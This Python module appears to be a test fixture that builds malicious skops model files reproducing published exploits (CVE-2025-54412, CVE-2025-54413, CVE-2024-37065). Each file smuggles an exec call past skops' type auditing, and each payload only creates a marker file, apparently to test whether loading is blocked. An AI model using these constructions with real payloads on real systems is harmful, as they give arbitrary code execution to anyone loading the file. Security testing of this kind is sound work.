"""Files of skops as published exploits of it have them, node by node. Every payload touches one file."""

from __future__ import annotations

import io
import json
import zipfile
from pathlib import Path
from typing import Any

Node = dict[str, Any]

_END = {"protocol": 2, "_skops_version": "0.11.0"}
_PLAIN = "builtins", "int"
"""What the exploits claim to be where skops before 0.12 looked at nothing else."""


def node(loader: str, module: str, name: str, **content: Any) -> Node:
    return {"__class__": name, "__module__": module, "__loader__": loader, **content}


def value(content: Any) -> Node:
    return node("JsonNode", "builtins", "str", content=json.dumps(content), is_json=True)


def name(module: str, qualname: str) -> Node:
    return node("TypeNode", module, qualname)


def items(kind: str, *content: Node) -> Node:
    return node(f"{kind.title()}Node", "builtins", kind, content=list(content))


def mapping(content: dict[str, Node], *key_types: Node) -> Node:
    types = key_types or [name("builtins", "str")] * len(content)
    return node("DictNode", "builtins", "dict", content=content, key_types=items("list", *types))


def operator(module: str, function: str, *arguments: Node) -> Node:
    return node("OperatorFuncNode", module, function, attrs=items("tuple", *arguments))


def method(of: Node, attribute: str, claimed: tuple[str, str] | None = None) -> Node:
    module, kind = claimed or (of["__module__"], of["__class__"])
    return node("MethodNode", module, kind, content={"obj": of, "func": attribute})


def instance(module: str, kind: str, attributes: Node | None = None) -> Node:
    return node("ObjectNode", module, kind, content=attributes)


def partial(function: Node, *arguments: Node, claimed: tuple[str, str] = ("functools", "partial")) -> Node:
    parts = {
        "func": function,
        "args": items("tuple", *arguments),
        "kwds": mapping({}),
        "namespace": mapping({}),
    }
    return node("PartialNode", *claimed, content=parts)


def file(root: Node, **members: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zipped:
        zipped.writestr("schema.json", json.dumps(root | _END))
        for member, content in members.items():
            zipped.writestr(member, content)
    return out.getvalue()


def code(marker: Path) -> Node:
    return value(f"open({str(marker)!r}, 'w').close()")


def hidden_operator(marker: Path, *, genuine: bool = False) -> bytes:
    """CVE-2025-54412: only ``__module__.__class__`` is audited, and ``operator.<__class__>`` is called."""
    module = "operator" if genuine else "sklearn.linear_model._stochastic_gradient.SGDRegressor"
    return file(operator(module, "call", name("builtins", "exec"), code(marker)))


def nested_load(marker: Path, *, genuine: bool = False) -> bytes:
    """The exploit of CVE-2025-54412: the call loads a second file out of the first, with trust of its own."""
    module = "operator" if genuine else "sk"
    inner = file(operator(module, "call", name("builtins", "exec"), code(marker)))
    load = operator(
        "operator" if genuine else "sklearn.linear_model._stochastic_gradient.SGDRegressor",
        "call",
        name("skops.io", "loads"),
        node("BytesNode", "builtins", "bytes", file="inner"),
        items("list", value("builtins.exec"), value(f"{module}.call")),
    )
    return file(load, inner=inner)


def hidden_method(marker: Path, *, genuine: bool = False) -> bytes:
    """CVE-2025-54413: any attribute of any object, down to ``exec``, called by the type of a key."""
    claimed = None if genuine else _PLAIN
    model = instance("sklearn.discriminant_analysis", "QuadraticDiscriminantAnalysis")
    builtins = method(method(model, "decision_function", claimed), "__builtins__", claimed)
    attributes = {
        "estimator": instance("sklearn.naive_bayes", "GaussianNB"),
        "scorer_": builtins,
        "refit": value("exec"),
        "best_estimator_": code(marker),
        "multimetric_": value(True),
    }
    search = instance("sklearn.model_selection._search", "GridSearchCV", mapping(attributes))
    score = partial(
        method(search, "score", claimed),
        mapping({}),
        mapping({}),
        claimed=("functools", "partial") if genuine else _PLAIN,
    )
    content = {"main": mapping({}), "default_factory": score}
    factory = node("DefaultDictNode", "collections", "defaultdict", content=content)
    return file(mapping({"key": value(1)}, method(factory, "__getitem__", claimed)))


def reduced(marker: Path, *, genuine: bool = False) -> bytes:
    """CVE-2024-37065: with ``trusted=True`` of skops before 0.10, a file calls what it likes."""
    return file(node("ConstructorFromReduceNode", "builtins", "exec", content=items("tuple", code(marker))))
